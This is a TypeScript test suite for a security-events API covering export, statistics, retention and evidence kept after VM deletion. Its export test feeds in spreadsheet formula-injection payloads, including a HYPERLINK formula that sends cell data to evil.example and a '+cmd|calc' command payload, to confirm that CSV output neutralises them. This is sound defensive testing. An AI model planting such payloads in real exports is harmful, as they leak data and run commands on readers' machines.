import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import type { Event } from '@twarga/contract';
import type { Identity } from '../../auth/identity.js';
import { testDatabaseKinds } from '../../../test-support/databases.js';
import { FakeDriver } from '../../../test-support/fake-driver.js';
import { createHarness, type Harness } from '../../../test-support/harness.js';
import { SocEventsRepository } from './soc-events.repository.js';
import { SocEventsService } from './soc-events.service.js';

type User = { id: number; token: string };
interface Row {
  type: string;
  severity: string;
  action: string;
  message: string;
  user_id: number | null;
  vm_id?: number | null;
  source_ip?: string | null;
  details?: Record<string, unknown>;
  count?: number;
  minutesAgo: number;
}

for (const kind of testDatabaseKinds()) {
  describe(`SOC events API: export, statistics, retention (${kind})`, () => {
    let h: Harness;
    let admin: string;
    const at = (minutesAgo: number) => new Date(h.clock.now().getTime() - minutesAgo * 60_000).toISOString();
    const get = (url: string, token: string) => h.request({ method: 'GET', url, token });
    /** Many rows fast: multi-row INSERTs in one transaction (the triggers and indexes still apply). */
    const bulk = async (rows: Row[]) => {
      await h.db.handle.db.transaction().execute(async (trx) => {
        for (let i = 0; i < rows.length; i += 500) {
          await trx
            .insertInto('events')
            .values(rows.slice(i, i + 500).map((r) => ({ type: r.type, severity: r.severity, action: r.action, message: r.message, timestamp: at(r.minutesAgo), last_seen: at(r.minutesAgo), user_id: r.user_id, username: null, vm_id: r.vm_id ?? null, source_ip: r.source_ip ?? null, details: JSON.stringify(r.details ?? {}), count: r.count ?? 1 })))
            .execute();
        }
      });
    };
    /** Every event the list API returns for this query, walking all its pages. */
    const walk = async (query: string, token: string) => {
      const all: Event[] = [];
      let url: string | undefined = `/api/soc/events?limit=500&${query}`;
      while (url) {
        const res = await get(url, token);
        assert.equal(res.statusCode, 200, res.body);
        all.push(...(res.json() as Event[]));
        const link = res.headers.link as string | undefined;
        url = link ? link.slice(1, link.indexOf('>')) : undefined;
      }
      return all;
    };

    before(async () => {
      h = await createHarness(kind, { sshPortRange: '26000-26099', eventRetentionDays: 30 }, new FakeDriver());
      admin = await h.adminToken();
    });
    after(() => h.close());

    test('export (CSV and JSON) holds exactly the filtered rows, over several pages, with safe CSV cells', async () => {
      const carol = await h.user('carol');
      const tricky = ['=HYPERLINK("http://evil.example/?x="&A1)', '+cmd|calc', '-2+3', '@SUM(A1)', 'comma, "quote" and\nnew line', 'plain'];
      const rows: Row[] = Array.from({ length: 2300 }, (_, i) => ({
        type: 'security',
        severity: i % 12 === 0 ? 'info' : 'warning',
        action: 'ssh.login_failed',
        message: i < tricky.length ? tricky[i]! : `Failed password for root from 198.51.100.${i % 250}`,
        user_id: i % 17 === 0 ? null : carol.id,
        source_ip: `198.51.100.${i % 250}`,
        details: { word: i % 10 === 0 ? 'other' : 'exportword', port: 30000 + i },
        minutesAgo: 3000 - i,
      }));
      await bulk(rows);
      const expected = rows.filter((r) => r.severity === 'warning' && r.details!.word === 'exportword' && r.user_id === carol.id);
      assert.ok(expected.length > 1500, 'more than one export page');
      const query = 'severity=warning&q=exportword';

      const listed = await walk(query, carol.token);
      assert.deepEqual(listed.map((e) => e.details.port), expected.map((r) => r.details!.port).reverse(), 'the list walk holds exactly the filtered rows');

      const json = await get(`/api/soc/events/export?format=json&${query}`, carol.token);
      assert.equal(json.statusCode, 200, json.body.slice(0, 300));
      assert.match(json.headers['content-type'] as string, /^application\/json/);
      assert.match(json.headers['content-disposition'] as string, /^attachment; filename="twarga-events-\d{8}T\d{6}Z\.json"$/);
      assert.deepEqual(json.json(), listed, 'JSON export = the filtered rows, all pages, no limit');

      const csv = await get(`/api/soc/events/export?format=csv&${query}`, carol.token);
      assert.equal(csv.statusCode, 200);
      assert.match(csv.headers['content-type'] as string, /^text\/csv/);
      assert.match(csv.headers['content-disposition'] as string, /^attachment; filename="twarga-events-\d{8}T\d{6}Z\.csv"$/);
      const records = parse(csv.body, { columns: true }) as Record<string, string>[];
      assert.deepEqual(Object.keys(records[0]!), ['id', 'timestamp', 'last_seen', 'count', 'type', 'severity', 'code', 'message', 'user_id', 'username', 'vm_id', 'source_ip', 'details']);
      assert.deepEqual(records.map((r) => Number(r.id)), listed.map((e) => e.id), 'CSV export = the filtered rows');
      const byPort = new Map(records.map((r) => [(JSON.parse(r.details!) as { port: number }).port, r]));
      // Formula injection: a cell starting with = + - @ is prefixed with a quote; other text is exact.
      assert.equal(byPort.get(30001)!.message, `'${tricky[1]}`);
      assert.equal(byPort.get(30002)!.message, `'${tricky[2]}`);
      assert.equal(byPort.get(30003)!.message, `'${tricky[3]}`);
      assert.equal(byPort.get(30004)!.message, tricky[4], 'commas, quotes and new lines survive');
      assert.equal(byPort.get(30005)!.message, 'plain');
      assert.equal(byPort.get(30005)!.user_id, String(carol.id));
      assert.equal(byPort.get(30005)!.code, 'ssh.login_failed');
      const formula = await get(`/api/soc/events/export?format=csv&q=HYPERLINK`, admin);
      assert.ok(formula.body.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`), formula.body);

      const empty = await get('/api/soc/events/export?format=json&q=nosuchwordanywhere', carol.token);
      assert.deepEqual(empty.json(), []);
      const emptyCsv = await get('/api/soc/events/export?format=csv&q=nosuchwordanywhere', carol.token);
      assert.equal(emptyCsv.body.trim().split('\n').length, 1, 'the header row only');
    });

    test('statistics: counts by severity and type, per hour, top sources; from/to; visibility', async () => {
      const dave = await h.user('dave');
      const erin = await h.user('erin');
      const s = async (token: string, query = '') => {
        const res = await get(`/api/soc/statistics${query}`, token);
        assert.equal(res.statusCode, 200, res.body);
        return res.json();
      };
      const before = await s(dave.token);
      await bulk([
        { type: 'auth', severity: 'info', action: 'login.succeeded', message: 'in', user_id: dave.id, minutesAgo: 60 },
        { type: 'auth', severity: 'info', action: 'login.succeeded', message: 'in', user_id: dave.id, minutesAgo: 61 },
        { type: 'security', severity: 'warning', action: 'access.denied', message: 'denied', user_id: dave.id, source_ip: '198.51.100.9', count: 3, minutesAgo: 120 },
        { type: 'security', severity: 'critical', action: 'ssh.login_succeeded', message: 'ok after fails', user_id: dave.id, source_ip: '198.51.100.9', minutesAgo: 30 },
        { type: 'vm', severity: 'warning', action: 'vm.died', message: 'died', user_id: dave.id, source_ip: '198.51.100.10', minutesAgo: 180 },
        { type: 'system', severity: 'info', action: 'billing.negative_balance', message: 'old', user_id: dave.id, minutesAgo: 48 * 60 },
      ]);
      const after = await s(dave.token);
      assert.equal(after.total_events - before.total_events, 8, 'a folded repeat counts as its occurrences');
      assert.equal(after.info_count - before.info_count, 3);
      assert.equal(after.warning_count - before.warning_count, 4);
      assert.equal(after.critical_count - before.critical_count, 1);
      assert.equal(after.by_type.security - (before.by_type.security ?? 0), 4);
      assert.equal(after.by_type.system - (before.by_type.system ?? 0), 1);
      assert.deepEqual(after.top_sources, [{ source_ip: '198.51.100.9', count: 4 }, { source_ip: '198.51.100.10', count: 1 }]);
      assert.equal(after.by_hour.length, 24);
      const hourOf = (minutesAgo: number) => `${at(minutesAgo).slice(0, 13)}:00:00.000Z`;
      assert.equal(after.by_hour[23].hour, hourOf(0));
      assert.equal(after.by_hour[0].hour, hourOf(23 * 60));
      assert.equal(after.by_hour.find((b: { hour: string }) => b.hour === hourOf(120)).warning, 3);
      assert.equal(after.by_hour.find((b: { hour: string }) => b.hour === hourOf(30)).critical, 1);
      assert.deepEqual([after.open_incidents, after.active_blocks], [0, 0]);

      const window = await s(dave.token, `?from=${encodeURIComponent(at(150))}&to=${encodeURIComponent(at(1))}`);
      assert.deepEqual([window.total_events, window.info_count, window.warning_count, window.critical_count, window.by_type], [6, 2, 3, 1, { auth: 2, security: 4 }]);

      // Erin sees none of Dave's; an admin sees them all.
      const erins = await s(erin.token);
      assert.deepEqual(erins.top_sources, []);
      assert.equal(erins.critical_count, 0);
      assert.equal(erins.total_events, (await walk('', erin.token)).reduce((n, e) => n + e.count, 0), 'exactly her own events');
      assert.ok((await s(admin)).total_events >= after.total_events + erins.total_events);
    });

    test('statistics and detail take the detection part’s counts and incident links, per viewer', async () => {
      const frank = await h.user('frank');
      const inserted: { id: number }[] = [];
      // One after the other: the ids must grow in this order.
      for (const [i, m] of ['one', 'two', 'three'].entries()) {
        inserted.push(await h.db.handle.db.insertInto('events').values({ type: 'security', severity: 'warning', action: 'ssh.login_failed', message: m, timestamp: at(i), last_seen: at(i), user_id: i === 2 ? null : frank.id, username: null, vm_id: null, source_ip: null, details: '{}', count: 1 }).returning('id').executeTakeFirstOrThrow());
      }
      const [a, b, c] = inserted;
      const seen: number[] = [];
      const service = new SocEventsService(new SocEventsRepository(h.db.handle.db, kind), h.clock, {
        incidents: { relatedIncidentEventIds: async (id) => (id === a!.id ? [a!.id, b!.id, c!.id] : []) },
        counts: { openIncidents: async (v) => (seen.push(v.userId), v.admin ? 7 : 2), activeBlocks: async (v) => (v.admin ? 5 : 1) },
      });
      const as = (id: number, admin: boolean) => ({ user: { id, is_admin: admin } }) as unknown as Identity;
      const d = await service.detail(as(frank.id, false), a!.id);
      assert.deepEqual(d.related.same_incident.map((e) => e.id), [b!.id], "the incident's other events the viewer may see");
      assert.deepEqual((await service.detail(as(1, true), a!.id)).related.same_incident.map((e) => e.id), [c!.id, b!.id]);
      const st = await service.statistics(as(frank.id, false), {});
      assert.deepEqual([st.open_incidents, st.active_blocks], [2, 1]);
      assert.deepEqual(seen, [frank.id]);
    });

    test('retention deletes only events older than eventRetentionDays, in batches, and the search index follows', async () => {
      const gina = await h.user('gina');
      const day = 24 * 60;
      const old: Row[] = Array.from({ length: 5200 }, (_, i) => ({ type: 'security', severity: 'warning', action: 'ssh.login_failed', message: `old ${i}`, user_id: gina.id, details: { tag: i === 0 ? 'ancientword' : 'old' }, minutesAgo: 31 * day + i }));
      await bulk([...old, { type: 'security', severity: 'warning', action: 'ssh.login_failed', message: 'recent', user_id: gina.id, details: { tag: 'recentword' }, minutesAgo: 29 * day }]);
      assert.equal((await walk('q=ancientword', gina.token)).length, 1);
      const total = async () => Number((await h.db.handle.db.selectFrom('events').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
      const beforeCount = await total();
      const deleted = await h.services.soc.eventsApi.retention.pass();
      assert.equal(deleted, 5200, 'every old event, over two batches');
      assert.equal(await total(), beforeCount - 5200, 'nothing else');
      const left = await walk('', gina.token);
      assert.ok(left.some((e) => e.message === 'recent'));
      assert.ok(left.every((e) => e.timestamp >= at(30 * day)));
      assert.deepEqual(await walk('q=ancientword', gina.token), [], 'the search index holds no deleted event');
      assert.equal((await walk('q=recentword', gina.token)).length, 1);
      if (kind === 'sqlite') await sql`INSERT INTO events_fts(events_fts, rank) VALUES ('integrity-check', 1)`.execute(h.db.handle.db);
      assert.equal(await h.services.soc.eventsApi.retention.pass(), 0);
    });

    test("destroying a VM keeps its events (the SOC's evidence outlives it)", async () => {
      const hal = await h.user('hal');
      await h.request({ method: 'POST', url: `/api/admin/users/${hal.id}/credits`, token: admin, body: { amount: 100_000, reason: 'test' } });
      const vm = (await h.request({ method: 'POST', url: '/api/vms', token: hal.token, body: { name: 'gone', image: 'tiny', size: 's-1vcpu-1gb' } })).json();
      await h.services.ops.idle();
      await h.services.events.record({ type: 'security', severity: 'warning', action: 'ssh.login_failed', message: 'Failed password for root', userId: hal.id, vmId: vm.id, sourceIp: '198.51.100.200', details: { port: 1 } });
      const destroy = await h.request({ method: 'POST', url: `/api/vms/${vm.id}/action`, token: hal.token, body: { action: 'destroy' } });
      assert.ok(destroy.statusCode < 300, destroy.body);
      await h.services.ops.idle();
      const events = await walk(`vm_id=${vm.id}`, hal.token);
      assert.ok(events.some((e) => e.code === 'ssh.login_failed'), 'the attack on the VM is still there');
      assert.ok(events.some((e) => e.code === 'vm.destroy'), 'and its destruction');
    });
  });
}
